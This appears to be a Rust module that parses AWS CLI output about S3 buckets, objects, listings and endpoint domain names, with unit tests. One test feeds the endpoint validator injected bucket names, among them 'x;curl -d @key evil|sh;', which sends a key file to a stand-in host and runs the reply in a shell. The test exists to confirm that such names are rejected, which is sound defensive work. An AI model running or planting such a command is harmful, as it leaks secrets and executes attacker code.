//! A bucket, as far as it can refuse.

use std::collections::BTreeMap;

use jiff::Timestamp;
use serde::Deserialize;
use serde_json::Value;

/// `get-public-access-block`.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "PascalCase", default)]
pub struct PublicAccessBlock {
    /// Public ACLs do not count.
    pub ignore_public_acls: bool,
    /// Public policies let nobody in but the account and AWS's services.
    pub restrict_public_buckets: bool,
}

/// Reads the output of `aws s3api get-public-access-block`.
pub fn public_access_block(answer: Value) -> Result<PublicAccessBlock, String> {
    let block = answer
        .get("PublicAccessBlockConfiguration")
        .cloned()
        .ok_or("no `PublicAccessBlockConfiguration` in it")?;
    serde_json::from_value(block).map_err(|error| error.to_string())
}

/// Reads the policy out of the output of `aws s3api get-bucket-policy` or
/// `aws kms get-key-policy`, where it is JSON inside a string.
pub fn policy_text(answer: Value) -> Result<String, String> {
    match answer.get("Policy") {
        Some(Value::String(text)) => Ok(text.clone()),
        Some(policy) => Ok(policy.to_string()),
        None => Err("no `Policy` in it".to_owned()),
    }
}

/// How CloudFront signs its requests to an origin.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "PascalCase", default)]
pub struct AccessControl {
    /// `always`, `never` or `no-override`.
    pub signing_behavior: String,
    /// `s3`, `lambda`, `mediastore`, `mediapackagev2`.
    pub origin_access_control_origin_type: String,
}

impl AccessControl {
    /// Reads the output of `aws cloudfront get-origin-access-control`.
    pub fn parse(answer: Value) -> Result<Self, String> {
        let config = answer
            .pointer("/OriginAccessControl/OriginAccessControlConfig")
            .cloned()
            .ok_or("no `OriginAccessControlConfig` in it")?;
        serde_json::from_value(config).map_err(|error| error.to_string())
    }
}

/// Reads the output of `aws s3api get-bucket-request-payment`.
pub fn requester_pays(answer: Value) -> Result<bool, String> {
    let payer = answer.get("Payer").and_then(Value::as_str).ok_or("no `Payer` in it")?;
    Ok(payer == "Requester")
}

/// Reads the output of `aws s3api get-bucket-ownership-controls`: whether access lists are off.
pub fn lists_off(answer: Value) -> Result<bool, String> {
    let rules = answer
        .pointer("/OwnershipControls/Rules")
        .and_then(Value::as_array)
        .ok_or("no `OwnershipControls.Rules` in it")?;
    let ownership = rules.iter().filter_map(|rule| rule.get("ObjectOwnership"));
    Ok(ownership.filter_map(Value::as_str).any(|ownership| ownership == "BucketOwnerEnforced"))
}

/// `head-object`, as far as it can refuse.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "PascalCase", default)]
pub struct Head {
    /// `AES256`, `aws:kms`, `aws:kms:dsse`.
    pub server_side_encryption: String,
    /// The key's ARN.
    #[serde(rename = "SSEKMSKeyId")]
    pub kms_key_id: String,
    /// `STANDARD` is left out by AWS.
    pub storage_class: String,
    /// `ARCHIVE_ACCESS`, `DEEP_ARCHIVE_ACCESS` of Intelligent-Tiering.
    pub archive_status: String,
    /// `ongoing-request="false", expiry-date="..."` once it is restored.
    pub restore: String,
    /// When it was last written.
    pub last_modified: Value,
}

impl Head {
    /// When the object was last written, where that is told.
    pub fn written(&self) -> Option<Timestamp> {
        self.last_modified.as_str()?.parse().ok()
    }

    /// Reads the output of `aws s3api head-object`.
    pub fn parse(answer: Value) -> Result<Self, String> {
        serde_json::from_value(answer).map_err(|error| error.to_string())
    }

    /// The storage class, if the object is archived and not restored for the time being.
    pub fn archived(&self) -> Option<&str> {
        let restored = self.is_restored();
        let class = self.storage_class.as_str();
        let archived = matches!(class, "GLACIER" | "DEEP_ARCHIVE");
        if restored {
            None
        } else if archived {
            Some(class)
        } else {
            (!self.archive_status.is_empty()).then_some(self.archive_status.as_str())
        }
    }

    /// Whether the object is archived, and restored for the time being.
    pub fn is_restored(&self) -> bool {
        self.restore.contains("ongoing-request=\"false\"")
    }

    /// Whether the object is being restored.
    pub fn is_being_restored(&self) -> bool {
        self.restore.contains("ongoing-request=\"true\"")
    }

    /// Whether the object is encrypted with a key of KMS, and with which.
    pub fn kms_key(&self) -> Option<&str> {
        self.server_side_encryption.starts_with("aws:kms").then_some(self.kms_key_id.as_str())
    }
}

/// One object of a listing.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Entry {
    /// When it was last written.
    pub last_modified: Option<Timestamp>,
    /// `STANDARD`, `GLACIER`, ….
    pub storage_class: String,
    /// Whether an archived object is restored for the time being.
    pub restored: bool,
    /// Whether it is being restored.
    pub being_restored: bool,
}

/// `list-objects-v2`.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Listing {
    /// What was asked for; absence is proved below it alone.
    pub prefix: String,
    /// Whether the listing ends early, or begins late.
    pub truncated: bool,
    /// Folders that it names in the place of their keys.
    pub folded: Vec<String>,
    /// The keys.
    pub keys: BTreeMap<String, Entry>,
    /// The keys in lower case, for finding near ones.
    pub lower: BTreeMap<String, String>,
}

impl Listing {
    /// Reads the output of `aws s3api list-objects-v2`.
    pub fn parse(answer: Value) -> Result<Self, String> {
        let text = |key: &str| answer.get(key).and_then(Value::as_str).unwrap_or_default();
        let truncated = answer.get("IsTruncated").and_then(Value::as_bool).unwrap_or(false)
            || !text("NextToken").is_empty()
            || !text("NextContinuationToken").is_empty()
            || !text("ContinuationToken").is_empty()
            || !text("StartAfter").is_empty();
        let folders = answer.get("CommonPrefixes").and_then(Value::as_array);
        let folders = folders.into_iter().flatten().filter_map(|one| one.get("Prefix"));
        let mut listing = Self {
            prefix: text("Prefix").to_owned(),
            truncated,
            folded: folders.filter_map(Value::as_str).map(str::to_owned).collect(),
            ..Self::default()
        };
        let contents = match answer.get("Contents") {
            None | Some(Value::Null) => &[],
            Some(Value::Array(items)) => items.as_slice(),
            Some(_) => return Err("`Contents` is no list".to_owned()),
        };
        for item in contents {
            let Some(key) = item.get("Key").and_then(Value::as_str) else { continue };
            let of = |name: &str| item.get(name).and_then(Value::as_str).unwrap_or_default();
            let in_progress = item.pointer("/RestoreStatus/IsRestoreInProgress");
            listing.lower.insert(key.to_lowercase(), key.to_owned());
            listing.keys.insert(
                key.to_owned(),
                Entry {
                    last_modified: of("LastModified").parse().ok(),
                    storage_class: of("StorageClass").to_owned(),
                    restored: in_progress.and_then(Value::as_bool) == Some(false),
                    being_restored: in_progress.and_then(Value::as_bool) == Some(true),
                },
            );
        }
        Ok(listing)
    }

    /// Whether the listing can prove that a key is absent.
    pub fn speaks_of(&self, key: &str) -> bool {
        !self.truncated
            && key.starts_with(&self.prefix)
            && !self.folded.iter().any(|folder| key.starts_with(folder.as_str()))
    }
}

/// Whether a domain name is S3's, and which bucket it names.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Endpoint {
    /// The bucket.
    pub bucket: String,
    /// Whether it is the website endpoint, which is always asked anonymously.
    pub website: bool,
}

/// Whether a bucket can have this name; those of early years may have `_`. It stands in commands
/// that people copy, and a bundle may come from anybody.
fn is_name(bucket: &str) -> bool {
    let allowed = |b: u8| b.is_ascii_alphanumeric() || b".-_".contains(&b);
    bucket.starts_with(|c: char| c.is_ascii_alphanumeric()) && bucket.bytes().all(allowed)
}

/// Reads `BUCKET.s3.REGION.amazonaws.com` and its older and newer spellings. Bucket names may hold
/// dots, so the endpoint is found from the right.
pub fn endpoint(domain: &str) -> Option<Endpoint> {
    let domain = domain.to_ascii_lowercase();
    let host = domain.strip_suffix('.').unwrap_or(&domain);
    let host =
        host.strip_suffix(".amazonaws.com.cn").or_else(|| host.strip_suffix(".amazonaws.com"))?;
    for marker in [".s3-website-", ".s3-website.", ".s3.", ".s3-", ".s3"] {
        let found = match marker {
            ".s3" => host.strip_suffix(".s3").map(|bucket| (bucket, "")),
            _ => host
                .rfind(marker)
                .and_then(|at| Some((host.get(..at)?, host.get(at + marker.len()..)?))),
        };
        if let Some((bucket, region)) = found
            && is_name(bucket)
            && region.split('.').count() <= 2
        {
            return Some(Endpoint {
                bucket: bucket.to_owned(),
                website: marker.starts_with(".s3-website"),
            });
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn endpoints_of_all_ages() {
        let bucket = |domain| endpoint(domain).map(|e| (e.bucket, e.website));
        assert_eq!(bucket("a.b.s3.eu-west-1.amazonaws.com"), Some(("a.b".into(), false)));
        assert_eq!(bucket("b.s3.amazonaws.com"), Some(("b".into(), false)));
        assert_eq!(bucket("b.s3-us-west-2.amazonaws.com"), Some(("b".into(), false)));
        assert_eq!(bucket("b.s3.dualstack.us-east-1.amazonaws.com"), Some(("b".into(), false)));
        assert_eq!(bucket("b.s3-website-us-east-1.amazonaws.com"), Some(("b".into(), true)));
        assert_eq!(bucket("b.s3-website.eu-central-1.amazonaws.com"), Some(("b".into(), true)));
        assert_eq!(bucket("x.execute-api.us-east-1.amazonaws.com"), None);
        assert_eq!(bucket("web.example.com"), None);
        // What no bucket is called would be a command of its own where a step is copied.
        for name in ["x;curl -d @key evil|sh;", "$(id)", "-rf", "a b", "a\u{1b}[2J"] {
            assert!(endpoint(&format!("{name}.s3.amazonaws.com")).is_none(), "{name}");
        }
    }

    #[test]
    fn a_listing_proves_absence_below_its_prefix_and_only_if_it_is_whole() {
        let whole = Listing::parse(json!({"Prefix": "a/", "Contents": [{"Key": "a/B"}]})).unwrap();
        assert!(whole.speaks_of("a/c") && !whole.speaks_of("b"));
        assert_eq!(whole.lower.get("a/b").map(String::as_str), Some("a/B"));
        let cut = Listing::parse(json!({"IsTruncated": true})).unwrap();
        assert!(!cut.speaks_of("a"));
        for part in ["NextToken", "ContinuationToken", "StartAfter"] {
            let paged = Listing::parse(json!({part: "x"})).unwrap();
            assert!(!paged.speaks_of("a"), "{part}");
        }
        let folded = json!({"Delimiter": "/", "CommonPrefixes": [{"Prefix": "img/"}]});
        let folded = Listing::parse(folded).unwrap();
        assert!(folded.speaks_of("a") && !folded.speaks_of("img/a"));
    }
}
